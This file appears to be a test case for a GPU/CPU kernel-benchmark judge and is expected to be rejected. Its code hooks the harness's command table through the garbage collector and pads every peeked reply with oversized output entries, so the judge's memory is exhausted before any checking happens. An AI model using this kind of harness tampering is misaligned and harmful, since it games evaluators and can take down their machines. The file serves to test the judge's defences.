# problem: pointwise_big
# expect: rejected timed_output_mismatch | rejected protocol_tampering
"""Hack (against the judge's memory, not for speed): on the CPU the judge reads every timed
call's outputs out of the sandbox (exchange.peek_output) into memory of its own, as soon as the
call answers, for every entry the reply lists, and holds them until the round ends. Each entry
is bounded (4x the largest outputs plus 64 MB: 128 MB here) but their number is not. Each timed
call here answers with its true output followed by EXTRA entries of 128 MB, all at the address
of one untouched 128 MB buffer of the sandbox (its never-written pages read as zeros and cost
the sandbox nothing): the judge allocates and fills EXTRA x 128 MB per call, times the calls
of a round, before it checks anything. With EXTRA in the hundreds, one call is more than the
host's memory. Checked trials compute honestly."""
import gc

import torch
import torch.nn as nn

from stitchcuda_lab import runtime

SRC = r"""
#include <stdint.h>
void fused(const float* x, float* y, int64_t n) {
    #pragma omp parallel for
    for (int64_t i = 0; i < n; ++i) { float v = 2.0f * x[i] + 1.0f; y[i] = v > 0.0f ? v : 0.0f; }
}
"""
MOD = runtime.load(SRC, lang="c", name="fused")

EXTRA = 8
H = next(o for o in gc.get_objects() if type(o).__name__ == "Harness")
TABLE = next(o for o in gc.get_objects() if isinstance(o, dict) and "outputs" in o
             and getattr(o.get("call"), "__self__", None) is H)   # main()'s command table
_call = TABLE["call"]
BIG = torch.empty(32 << 20, dtype=torch.float32)   # 128 MB of address space, never touched


def call(cmd):
    reply = _call(cmd)
    outs = reply.get("outputs")
    if cmd.get("peek") and isinstance(outs, list) and outs and "addr" in outs[0]:
        big = {"addr": BIG.data_ptr(), "shape": [BIG.numel()], "dtype": "float32"}
        reply["outputs"] = outs + [dict(big) for _ in range(EXTRA)]
    return reply


TABLE["call"] = call


class ModelNew(nn.Module):
    def forward(self, x):
        x = x.contiguous()
        y = torch.empty_like(x)
        MOD.call("fused", x, y, x.numel())
        return y
